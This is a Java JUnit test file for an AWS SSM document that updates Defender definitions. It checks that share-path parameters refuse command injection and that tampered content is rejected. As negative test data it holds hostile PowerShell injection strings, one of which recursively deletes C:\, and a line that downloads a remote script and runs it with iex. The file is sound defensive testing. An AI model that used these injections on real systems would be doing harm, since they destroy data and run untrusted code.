package guardrails.defenderdefinitions;

import com.fasterxml.jackson.databind.JsonNode;
import guardrails.local.Template;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * G4's remediation can do only the update: the template's own Command document with fixed steps, whose share path
 * parameter (and the function's own check of it) refuses anything that could leave the script's single-quoted
 * string: ASCII quotes, PowerShell's Unicode quotes (U+2018-U+201E), semicolons, pipes, backticks, line breaks.
 */
class DefenderUpdateDocumentTest {

    private static final JsonNode CONTENT = Template.load().resources("AWS::SSM::Document")
            .get("DefenderUpdateDocument").path("Content");
    private static final Pattern ALLOWED = Pattern.compile(CONTENT.path("parameters").path("SharePath")
            .path("allowedPattern").asText());
    /** The template parameter's own pattern: a bad path fails the deployment, not a run. */
    private static final Pattern PARAMETER = Pattern.compile(Template.load()
            .parameter("DefenderFileSharePath").path("AllowedPattern").asText());

    @ParameterizedTest
    @ValueSource(strings = {"\\\\fs01\\x'; Remove-Item C:\\ -Recurse; '", "\\\\fs01\\x\u2019; calc; \u2018",
            "\\\\fs01\\x\u201A; calc", "\\\\fs01\\x\u201B", "\\\\fs01\\a\"b", "\\\\fs01\\a\u201Cb\u201D",
            "\\\\fs01\\a\u201Eb", "\\\\fs01\\a;b", "\\\\fs01\\a|b", "\\\\fs01\\a`b", "\\\\fs01\\a$(calc)",
            "\\\\fs01\\a\nb", "\\\\fs01\\a\r\nb", "\\\\fs01", "C:\\defs", "\\\\fs01\\a&b"})
    void aSharePathThatCouldReachACommandLineIsRefusedByTheDocumentAndTheFunction(String path) {
        assertFalse(ALLOWED.matcher(path).matches(), "the document's allowedPattern takes " + path);
        assertFalse(PARAMETER.matcher(path).matches(), "the template parameter's AllowedPattern takes " + path);
        assertThrows(IllegalStateException.class, () -> DefenderPolicy.fromEnvironment(Map.of(
                "DEFENDER_UPDATE_SOURCE", "FileShares", "DEFENDER_FILE_SHARE_PATH", path)), path);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\\\fs01.managed.example.net\\defender", "\\\\fs01\\defs$", "\\\\fs-01\\Defender Updates\\x64"})
    void realSharePathsAreTakenByBoth(String path) {
        assertTrue(ALLOWED.matcher(path).matches(), path);
        assertTrue(PARAMETER.matcher(path).matches(), path);
        assertEquals(List.of(path), DefenderPolicy.fromEnvironment(Map.of("DEFENDER_UPDATE_SOURCE", "FileShares",
                "DEFENDER_FILE_SHARE_PATH", path)).documentParameters().get("SharePath"));
    }

    @Test
    void theStepsAreFixedAndUseTheParametersOnlyAsSingleQuotedStrings() {
        assertEquals("[\"Default\",\"FileShares\",\"InternalDefinitionUpdateServer\"]",
                CONTENT.path("parameters").path("Source").path("allowedValues").toString());
        List<String> lines = new ArrayList<>();
        CONTENT.path("mainSteps").get(0).path("inputs").path("runCommand").forEach(l -> lines.add(l.asText()));
        List<String> usingParameters = lines.stream().filter(l -> l.contains("{{")).toList();
        assertEquals(List.of("$source = '{{ Source }}'", "$share = '{{ SharePath }}'"), usingParameters);
        assertTrue(lines.contains("  Set-MpPreference -SignatureDefinitionUpdateFileSharesSources $share"));
        // Defender's scheduled updates follow SignatureFallbackOrder: the chosen closed-network source goes first.
        assertTrue(lines.contains("  Set-MpPreference -SignatureFallbackOrder 'FileShares|MicrosoftUpdateServer|MMPC'"),
                lines.toString());
        assertTrue(lines.contains("  Set-MpPreference -SignatureFallbackOrder"
                + " 'InternalDefinitionUpdateServer|MicrosoftUpdateServer|MMPC'"), lines.toString());
        assertTrue(lines.stream().noneMatch(l -> l.contains("Invoke-Expression") || l.contains("iex ")));
    }

    /** What G4 trusts is what the template deploys: the packaged copy is the template's content, value for value. */
    @Test
    void thePackagedCopyIsTheTemplatesDocument() {
        assertEquals(CONTENT, UpdateDocument.deployed());
        assertTrue(UpdateDocument.isDeployed(CONTENT.toString()));
        assertEquals("Replace", Template.load().resources("AWS::SSM::Document").get("DefenderUpdateDocument")
                .path("UpdateMethod").asText(), "version 1 is the deployed content only if new content replaces it");
    }

    @Test
    void anyOtherContentIsNotTheDeployedDocument() {
        var changed = UpdateDocument.deployed();
        ((com.fasterxml.jackson.databind.node.ArrayNode) changed.path("mainSteps").get(0).path("inputs")
                .path("runCommand")).add("Invoke-WebRequest https://example.com/x.ps1 | iex");
        assertFalse(UpdateDocument.isDeployed(changed.toString()));
        assertFalse(UpdateDocument.isDeployed(null));
        assertFalse(UpdateDocument.isDeployed("schemaVersion: '2.2'"), "YAML is not the deployed JSON");
        assertFalse(UpdateDocument.isDeployed(CONTENT + " {}"), "one JSON value only");
    }

    /** An operator pastes the command an alert gives: the share path reaches the CLI as JSON, whole. */
    @Test
    void theUpdateCommandInAnAlertCarriesTheParametersAsJson() {
        assertEquals("aws ssm send-command --document-name guardrails-defender-update --document-version 1"
                + " --instance-ids mi-0123456789abcdef0 --parameters"
                + " '{\"SharePath\":[\"\\\\\\\\fs01\\\\defs$\"],\"Source\":[\"FileShares\"]}'",
                DefenderRules.sendCommand("mi-0123456789abcdef0", "guardrails-defender-update",
                        Map.of("Source", List.of("FileShares"), "SharePath", List.of("\\\\fs01\\defs$"))));
    }
}
